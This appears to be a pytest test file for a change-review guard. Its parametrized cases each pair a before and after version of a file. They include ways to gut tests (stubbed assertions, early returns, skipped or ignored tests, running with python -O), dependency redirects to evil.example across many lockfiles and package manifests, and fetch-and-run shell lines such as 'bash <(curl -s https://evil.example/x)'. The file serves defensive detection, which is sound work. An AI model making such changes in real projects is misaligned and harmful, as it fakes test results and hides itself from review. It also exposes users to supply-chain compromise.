# ruff: noqa: E501 - a case is a line
"""Changes of somebody who knows the guards: each was let pass once."""

import json

import pytest

from tests.guards.changes import stops

pytestmark = [pytest.mark.gates, pytest.mark.hostile]

TEST = "import unittest\n\n\nclass A(unittest.TestCase):\n    def test_a(self):\n        x = f()\n        self.assertEqual(x, 1)\n"
JS = "test('a', () => {\n  expect(f()).toBe(1);\n});\n"
LOCK = {
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "a"},
        "node_modules/kleur": {
            "version": "4.1.5",
            "resolved": "https://registry.npmjs.org/kleur/-/kleur-4.1.5.tgz",
            "integrity": "sha512-aaaa",
        },
    },
}
UV = '[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "https://pypi.org/simple" }\n'
PACKAGE = {"name": "a", "scripts": {"test": "jest"}, "dependencies": {"kleur": "4.1.5"}}


def lock(**kleur: str) -> str:
    packages = LOCK["packages"] | {"node_modules/kleur": LOCK["packages"]["node_modules/kleur"] | kleur}  # type: ignore[index,operator]
    return json.dumps(LOCK | {"packages": packages}, indent=2) + "\n"


def package(**more: object) -> str:
    return json.dumps(PACKAGE | more, indent=2) + "\n"


TESTS = {
    "returns before it checks": ("tests/test_a.py", TEST, TEST.replace("x = f()", "x = f()\n        return")),
    "checks where nothing comes": ("tests/test_a.py", TEST, TEST.replace("        self", "        if False:\n            self")),
    "makes the check do nothing": ("tests/__init__.py", "", "import unittest\n\nunittest.TestCase.assertEqual = lambda *_: None\n"),
    "is no test any more": ("tests/test_a.py", TEST, TEST.replace("    def", "    __test__ = False\n\n    def")),
    "has no cases": ("tests/test_b.py", "", "@pytest.mark.parametrize('x', [])\ndef test_b(x):\n    assert f(x) == 1\n"),
    "is ignored by name": ("conftest.py", "", 'collect_ignore_glob = ["test_*.py"]\n'),
    "ends the program": ("a.test.js", JS, JS.replace("  expect", "  process.exit(0);\n  expect")),
    "makes JavaScript's check do nothing": ("setup.test.js", "", "assert.equal = () => {};\n"),
    "is skipped by another name": ("a.test.js", JS, JS.replace("test(", "test['skip'](")),
    "is run if nothing": ("a.test.ts", JS, JS.replace("test(", "test.runIf(false)(")),
    "runs without assertions": ("Makefile", "test:\n\tpython -m pytest\n", "test:\n\tpython -O -m pytest\n"),
    "wants a panic": ("tests/a.rs", "#[test]\nfn a() {\n    assert_eq!(f(), 1);\n}\n", "#[test]\n#[should_panic]\nfn a() {\n    assert_eq!(f(), 1);\n}\n"),
}  # fmt: skip
LOCKS = {
    "a package from elsewhere": ("package-lock.json", lock(), lock(resolved="https://evil.example/kleur-4.1.5.tgz")),
    "another content of the same version": ("package-lock.json", lock(), lock(integrity="sha512-bbbb")),
    "another index": ("uv.lock", UV, UV.replace("pypi.org", "pypi.example")),
    "a package of git": ("Cargo.lock", "", 'source = "git+https://evil.example/a#1"\n'),
}
MANIFESTS = {
    "an address": ("requirements.txt", "a==1\n", "a==1\nhttps://evil.example/b-1-py3-none-any.whl\n"),
    "git": ("requirements.txt", "a==1\n", "a==1\ngit+https://evil.example/b.git\n"),
    "git, editable": ("requirements.txt", "a==1\n", "a==1\n-e git+https://evil.example/b.git#egg=b\n"),
    "another index": ("requirements.txt", "a==1\n", "--extra-index-url https://evil.example/simple\na==1\n"),
    "another index of uv": ("pyproject.toml", "", '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n'),
    "a source of uv": ("pyproject.toml", "", '[tool.uv.sources]\na = { git = "https://evil.example/a" }\n'),
    "a replacement": ("go.mod", "module a\n", "module a\n\nreplace github.com/a/b => github.com/evil/b v1.0.0\n"),
    "a patch": ("Cargo.toml", "", '[patch.crates-io]\na = { git = "https://evil.example/a" }\n'),
    "an override": ("package.json", package(), package(overrides={"kleur": "github:evil/kleur"})),
    "a resolution": ("package.json", package(), package(resolutions={"kleur": "https://evil.example/k.tgz"})),
    "a registry": (".npmrc", "", "registry=https://evil.example/\n"),
    "a pip.conf": ("pip.conf", "", "[global]\nindex-url = https://evil.example/simple\n"),
    "a mirror": (".cargo/config.toml", "", '[source.crates-io]\nreplace-with = "evil"\n'),
}
CODE = {
    "what runs when it is installed": ("package.json", package(), package(scripts={"test": "jest", "postinstall": "node x.js"})),
    "what is downloaded, as a file": ("a.sh", "", "bash <(curl -s https://evil.example/x)\n"),
    "what is downloaded, as text": ("a.sh", "", 'eval "$(wget -qO- https://evil.example/x)"\n'),
    "a program made of text": ("a.js", "", "vm.runInThisContext(text);\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", TESTS)
async def test_a_test_that_checks_nothing_goes_back(case: str) -> None:
    path, before, after = TESTS[case]
    assert "weakened tests" in await stops({path: before} if before else {}, {path: after})


@pytest.mark.parametrize("case", LOCKS)
async def test_a_lock_file_that_leads_elsewhere_goes_back(case: str) -> None:
    path, before, after = LOCKS[case]
    manifest = {"package-lock.json": "package.json", "uv.lock": "pyproject.toml", "Cargo.lock": "Cargo.toml"}[path]
    there = {manifest: "{}\n" if manifest.endswith("json") else "# a\n"}
    changed = {manifest: '{"a": 1}\n' if manifest.endswith("json") else "# b\n"}
    assert await stops(there | ({path: before} if before else {}), changed | {path: after}) == ["lock files"]


@pytest.mark.parametrize("case", MANIFESTS)
async def test_a_package_of_nobody_knows_where_is_stopped(case: str) -> None:
    path, before, after = MANIFESTS[case]
    assert "dependencies" in await stops({path: before} if before else {}, {path: after})


@pytest.mark.parametrize("case", CODE)
async def test_what_runs_what_nobody_has_read_goes_back(case: str) -> None:
    path, before, after = CODE[case]
    assert "dangerous code" in await stops({path: before} if before else {}, {path: after})
